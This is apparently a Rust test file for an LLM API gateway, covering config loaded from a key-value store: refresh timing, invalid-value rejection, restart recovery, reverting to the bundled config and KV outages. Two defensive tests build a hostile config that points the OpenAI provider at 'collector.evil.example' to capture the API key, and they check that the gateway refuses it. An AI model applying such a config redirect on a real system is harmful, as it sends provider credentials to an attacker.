//! The KV config: replacement within `config_refresh_secs`, rejection of an invalid value with
//! the last good config serving, restoration after a restart, reverting to the bundled config.

use serde_json::json;

use super::support::*;
use crate::testing::{request, MemoryPlatform, Received};
use crate::Gateway;

fn health(p: &MemoryPlatform, gw: &Gateway) -> Received {
    p.send(gw, request(http::Method::GET, "/healthz", None, &serde_json::Value::Null))
}

fn model_ids(p: &MemoryPlatform, gw: &Gateway) -> Vec<String> {
    let r = p.send(gw, request(http::Method::GET, "/v1/models", Some(&key("main")), &serde_json::Value::Null));
    r.json()["data"].as_array().into_iter().flatten().filter_map(|d| d["id"].as_str().map(str::to_owned)).collect()
}

fn with_extra_model() -> String {
    yaml().replace("models:\n", "models:\n  kv-added: { provider: openai, base_url: \"http://127.0.0.1:9/openai/v1\" }\n")
}

#[test]
fn a_kv_config_replaces_the_bundled_one_at_the_next_refresh() {
    let (p, gw) = setup();
    assert_eq!(health(&p, &gw).json()["config_source"], "bundled");
    p.kv_put("config", with_extra_model().as_bytes());
    // Read at most once per config_refresh_secs (1 s).
    assert!(!model_ids(&p, &gw).contains(&"kv-added".to_owned()));
    p.advance(1000);
    assert!(model_ids(&p, &gw).contains(&"kv-added".to_owned()));
    assert_eq!(health(&p, &gw).json()["config_source"], "kv");
    assert_served(&chat(&p, &gw, "main", json!({"model": "kv-added", "messages": user("hi")})), "kv-added", 1);
    assert_eq!(p.kv_read("config.last-good").as_deref(), Some(with_extra_model().as_bytes()));
}

#[test]
fn an_invalid_kv_config_is_refused_logged_once_and_the_last_good_keeps_serving() {
    let (p, gw) = setup();
    p.kv_put("config", with_extra_model().as_bytes());
    assert!(model_ids(&p, &gw).contains(&"kv-added".to_owned()));
    p.kv_put("config", b"models: {oops: {provider: nope}}\n");
    for _ in 0..3 {
        p.advance(1000);
        assert!(model_ids(&p, &gw).contains(&"kv-added".to_owned()), "the invalid config replaced the last good one");
    }
    let rejected: Vec<_> = p.logs().into_iter().filter(|l| l["event"] == "config_rejected").collect();
    assert_eq!(rejected.len(), 1, "an unchanged invalid value is logged once: {rejected:?}");
    assert!(rejected[0]["problems"].as_str().is_some_and(|m| m.contains("models.oops")), "{}", rejected[0]);
    assert_eq!(rejected[0]["serving"], "last good KV config");
}

#[test]
fn a_restarted_instance_that_finds_an_invalid_config_serves_the_last_good_one() {
    let (p, gw) = setup();
    p.kv_put("config", with_extra_model().as_bytes());
    assert!(model_ids(&p, &gw).contains(&"kv-added".to_owned()));
    p.kv_put("config", b"not: [valid\n");
    drop(gw);
    // A new isolate: same KV, empty memory.
    let gw = Gateway::new(&yaml());
    assert!(model_ids(&p, &gw).contains(&"kv-added".to_owned()), "config.last-good is restored");
    assert_eq!(health(&p, &gw).json()["config_source"], "kv");
}

#[test]
fn deleting_the_kv_config_returns_to_the_bundled_one() {
    let (p, gw) = setup();
    p.kv_put("config", with_extra_model().as_bytes());
    assert!(model_ids(&p, &gw).contains(&"kv-added".to_owned()));
    p.kv_delete("config");
    p.advance(1000);
    assert!(!model_ids(&p, &gw).contains(&"kv-added".to_owned()));
    assert_eq!(health(&p, &gw).json()["config_source"], "bundled");
    assert!(p.logs().iter().any(|l| l["event"] == "config_reverted"));
}

#[test]
fn a_kv_outage_keeps_the_current_config_and_is_logged() {
    let (p, gw) = setup();
    p.kv_put("config", with_extra_model().as_bytes());
    assert!(model_ids(&p, &gw).contains(&"kv-added".to_owned()));
    p.fail_kv(true);
    p.advance(1000);
    assert!(model_ids(&p, &gw).contains(&"kv-added".to_owned()));
    assert!(p.logs().iter().any(|l| l["event"] == "config_kv_error"));
}

#[test]
fn a_kv_config_cannot_send_a_provider_key_to_a_host_the_deployment_does_not_allow() {
    let (p, gw) = setup();
    // Whoever can write KV points `oa` (OPENAI_API_KEY) at their own collector.
    let hostile = yaml()
        .replace("http://127.0.0.1:9/openai/v1\"\n    upstream_model: gpt-4o", "https://collector.evil.example/v1\"\n    upstream_model: gpt-4o")
        .replace("OPENAI_API_KEY: [\"127.0.0.1:9\"]", "OPENAI_API_KEY: [\"127.0.0.1:9\", collector.evil.example]");
    assert!(hostile.contains("collector.evil.example/v1"), "the test edit applied");
    p.kv_put("config", hostile.as_bytes());
    let r = chat(&p, &gw, "main", json!({"model": "oa", "messages": user("hi")}));
    assert_served(&r, "oa", 1);
    assert!(p.fetched_urls().iter().all(|u| !u.contains("evil")), "{:?}", p.fetched_urls());
    let rejected: Vec<_> = p.logs().into_iter().filter(|l| l["event"] == "config_rejected").collect();
    assert!(rejected[0]["problems"].as_str().is_some_and(|m| m.contains("collector.evil.example is not allowed for OPENAI_API_KEY")), "{rejected:?}");
    assert_eq!(health(&p, &gw).json()["config_source"], "bundled");

    // The same binding, allowed by whoever deploys (a platform secret, not KV), is accepted.
    let (p, gw) = setup();
    p.set_secret("GATEWAY_SECRET_HOSTS", r#"{"OPENAI_API_KEY": ["collector.evil.example"]}"#);
    p.kv_put("config", hostile.as_bytes());
    chat(&p, &gw, "main", json!({"model": "oa", "messages": user("hi")}));
    assert_eq!(p.fetched_urls(), ["https://collector.evil.example/v1/chat/completions"]);
}

#[test]
fn a_last_good_config_that_widens_the_bindings_is_not_restored() {
    let (p, _) = setup();
    let hostile = yaml().replace("OPENAI_API_KEY: [\"127.0.0.1:9\"]", "OPENAI_API_KEY: [\"127.0.0.1:9\", collector.evil.example]");
    p.kv_put("config.last-good", hostile.as_bytes());
    p.kv_put("config", b"not: [valid\n");
    let gw = crate::Gateway::new(&yaml());
    assert_eq!(health(&p, &gw).json()["config_source"], "bundled");
}
